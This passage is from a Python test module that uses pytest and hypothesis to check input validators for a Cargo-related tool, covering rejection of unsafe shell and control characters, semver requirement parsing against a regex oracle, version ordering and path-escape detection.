        ("a\tb", 'contains "\\t" (whitespace)'),
        ("a\nb", 'contains "\\n" (whitespace)'),
        ("a\u2028b", 'contains "\\u2028" (whitespace)'),
        ("a\u2029b", 'contains "\\u2029"'),
        ("a\u00a0b", 'contains "\\xa0" (whitespace)'),
        ("a\x7fb", 'contains "\\x7f" (a control or invisible character)'),
        ("a\x1bb", 'contains "\\x1b" (a control or invisible character)'),
        ("a\u202eb", 'contains "\\u202e" (a control or invisible character)'),
        ("a\u200bb", 'contains "\\u200b" (a control or invisible character)'),
        *[(f"a{ch}b", "(a shell metacharacter)") for ch in sorted(SHELL_UNSAFE - {"\n"})],
    ],
)
def test_unsafe_word_rejected(value: str, part: str) -> None:
    problem = unsafe_word_problem(value)
    assert problem is not None
    assert part in problem


def test_shell_unsafe_set_is_complete() -> None:
    assert set("$`;&|<>()'\"\\*?[]{}!#~\n") == SHELL_UNSAFE


def test_messages_quote_long_values_briefly() -> None:
    problem = check_crate_name("a" * 500 + " ")
    assert problem is not None
    assert len(problem) < 300
    assert "…" in problem


# ---------------------------------------------------------------------------------------------------
# Injection attempts never pass anywhere
# ---------------------------------------------------------------------------------------------------

CHECKERS = [
    check_crate_name,
    check_feature_name,
    check_profile_name,
    check_target_triple,
    check_git_url,
    check_git_rev,
    check_relative_path,
    check_version_req,
    unsafe_word_problem,
]


@pytest.mark.parametrize("value", INJECTIONS)
@pytest.mark.parametrize("checker", CHECKERS, ids=lambda f: f.__name__)
def test_injections_rejected_everywhere(checker: object, value: str) -> None:
    assert callable(checker)
    problem = checker(value)
    assert isinstance(problem, str)
    assert problem
    assert "\n" not in problem and "\r" not in problem and "\x00" not in problem


# ---------------------------------------------------------------------------------------------------
# Properties
# ---------------------------------------------------------------------------------------------------

_NUM = r"(?:0|[1-9][0-9]*)"
_W = r"[*xX]"
_PRE_ID = r"(?:0|[1-9][0-9]*|[0-9]*[A-Za-z-][0-9A-Za-z-]*)"
_BUILD_ID = r"[0-9A-Za-z-]+"
_VERSION = (
    rf"{_NUM}(?:\.(?:{_NUM}(?:\.(?:{_NUM}(?:-{_PRE_ID}(?:\.{_PRE_ID})*)?(?:\+{_BUILD_ID}(?:\.{_BUILD_ID})*)?"
    rf"|{_W}))?|{_W}(?:\.{_W})?))?"
)
_COMPARATOR = rf" *(?:>=|<=|[=><~^])? *{_VERSION} *"
# An independent statement of the grammar semver's `VersionReq::parse` accepts.
ORACLE = re.compile(rf"(?: *{_W} *|{_COMPARATOR}(?:,{_COMPARATOR}){{0,31}})")

req_alphabet = st.sampled_from(list("0123456789....***xX--++  ,,<>=~^abz_\t"))
req_like_text = st.lists(req_alphabet, max_size=24).map("".join)

num = st.one_of(st.integers(0, 20), st.integers(0, 2**64 - 1)).map(str)
wild = st.sampled_from(["*", "x", "X"])
pre_id = st.one_of(
    st.integers(0, 30).map(str), st.from_regex(r"[0-9]*[A-Za-z-][0-9A-Za-z-]{0,4}", fullmatch=True)
)
pre = st.lists(pre_id, min_size=1, max_size=3).map(".".join)
build = st.lists(st.from_regex(r"[0-9A-Za-z-]{1,4}", fullmatch=True), min_size=1, max_size=2).map(".".join)
spaces = st.sampled_from(["", " ", "  "])


@st.composite
def version_text(draw: st.DrawFn) -> str:
    shape = draw(st.sampled_from(["M", "M.m", "M.m.p", "M.*", "M.m.*", "M.*.*", "M.m.p-pre", "M.m.p+b"]))
    text = draw(num)
    if shape == "M":
        return text
    if shape.startswith("M.*"):
        return text + "." + draw(wild) + ("." + draw(wild) if shape == "M.*.*" else "")
    text += "." + draw(num)
    if shape == "M.m":
        return text
    if shape == "M.m.*":
        return text + "." + draw(wild)
    text += "." + draw(num)
    if shape == "M.m.p-pre":
        text += "-" + draw(pre) + (("+" + draw(build)) if draw(st.booleans()) else "")
    elif shape == "M.m.p+b":
        text += "+" + draw(build)
    return text


@st.composite
def requirement_text(draw: st.DrawFn) -> str:
    if draw(st.integers(0, 9)) == 0:
        return draw(spaces) + draw(wild) + draw(spaces)
    parts = []
    for _ in range(draw(st.integers(1, 4))):
        op = draw(st.sampled_from(["", "=", ">", ">=", "<", "<=", "~", "^"]))
        parts.append(draw(spaces) + op + draw(spaces) + draw(version_text()) + draw(spaces))
    return ",".join(parts)


@settings(max_examples=500)
@given(st.text(max_size=40))
def test_parse_never_raises_anything_but_value_error(text: str) -> None:
    problem = check_version_req(text)  # lets anything but ValueError through
    if problem is None:
        assert isinstance(parse_version_req(text), VersionReq)
    else:
        assert problem.endswith(EXAMPLES)
        with pytest.raises(ValueError, match=re.escape(problem)):
            parse_version_req(text)


@settings(max_examples=1500, suppress_health_check=[HealthCheck.too_slow])
@given(req_like_text)
def test_parse_accepts_exactly_the_semver_grammar(text: str) -> None:
    assume(not re.search(r"[0-9]{20}", text))  # u64 overflow is checked separately
    accepted = check_version_req(text) is None
    assert accepted == bool(ORACLE.fullmatch(text)), text


@settings(max_examples=500)
@given(requirement_text())
def test_generated_requirements_parse_and_canonical_is_a_fixed_point(text: str) -> None:
    req = parse_version_req(text)
    canonical = req.canonical()
    again = parse_version_req(canonical)
    assert again == req
    assert again.canonical() == canonical
    assert " ," not in canonical
    assert again.lower_bound() == req.lower_bound()


@settings(max_examples=300)
@given(requirement_text())
def test_fast_path_agrees_with_full_parser(text: str) -> None:
    assert cargo._parse_req(text) == cargo._parse_req_full(text)


def _reference_cmp(a: Version, b: Version) -> int:
    """semver.org §11, written out independently of `sort_key`."""
    if a[:3] != b[:3]:
        return -1 if a[:3] < b[:3] else 1
    if not a.pre or not b.pre:
        return (not a.pre) - (not b.pre)
    for x, y in zip(a.pre, b.pre, strict=False):
        if x == y:
            continue
        if isinstance(x, int) and isinstance(y, int):
            return -1 if x < y else 1
        if isinstance(x, int) or isinstance(y, int):
            return -1 if isinstance(x, int) else 1
        return -1 if x < y else 1
    return (len(a.pre) > len(b.pre)) - (len(a.pre) < len(b.pre))


identifier = st.one_of(st.integers(0, 12), st.sampled_from(["alpha", "beta", "rc", "a1", "Z", "-"]))
versions = st.builds(
    Version,
    st.integers(0, 3),
    st.integers(0, 3),
    st.integers(0, 3),
    st.lists(identifier, max_size=3).map(tuple),
)


@settings(max_examples=500)
@given(versions, versions)
def test_version_ordering_matches_reference(a: Version, b: Version) -> None:
    expected = _reference_cmp(a, b)
    assert (a < b) == (expected < 0)
    assert (a > b) == (expected > 0)
    assert (a.sort_key() == b.sort_key()) == (expected == 0)


@settings(max_examples=300)
@given(versions)
def test_exact_requirement_floor_is_the_version(v: Version) -> None:
    assert parse_version_req(f"={v}").lower_bound() == v
    assert parse_version(str(v)) == v


@settings(max_examples=500)
@given(st.text(max_size=30))
def test_checkers_never_raise_and_accepted_values_are_shell_safe(text: str) -> None:
    for checker in (
        check_crate_name,
        check_feature_name,
        check_profile_name,
        check_target_triple,
        check_git_rev,
    ):
        problem = checker(text)
        assert problem is None or (isinstance(problem, str) and problem)
        if problem is None:
            assert unsafe_word_problem(text) is None, (checker.__name__, text)
    assert check_git_url(text) is None or isinstance(check_git_url(text), str)
    path_problem = check_relative_path(text)
    if path_problem is None:
        assert unsafe_word_problem(text) is None
        normalized = normalize_relative_path(text)
        assert normalized == normalize_relative_path(normalized)
        assert normalized != ".."
        assert not normalized.startswith("../")


@settings(max_examples=300)
@given(
    st.from_regex(r"(?:\.{1,2}/|[a-z]{1,3}/){0,6}[a-z]{0,3}", fullmatch=True),
    st.sampled_from(["", "a", "a/b"]),
)
def test_path_escape_matches_a_component_walk(path: str, manifest_dir: str) -> None:
    assume(path)
    depth = 0
    escaped = False
    for part in [*filter(None, manifest_dir.split("/")), *path.split("/")]:
        if part == "..":
            depth -= 1
            escaped = escaped or depth < 0
        elif part not in ("", "."):
            depth += 1
    problem = check_relative_path(path, manifest_dir=manifest_dir)
    assert (problem is not None) == escaped, (path, manifest_dir, problem)
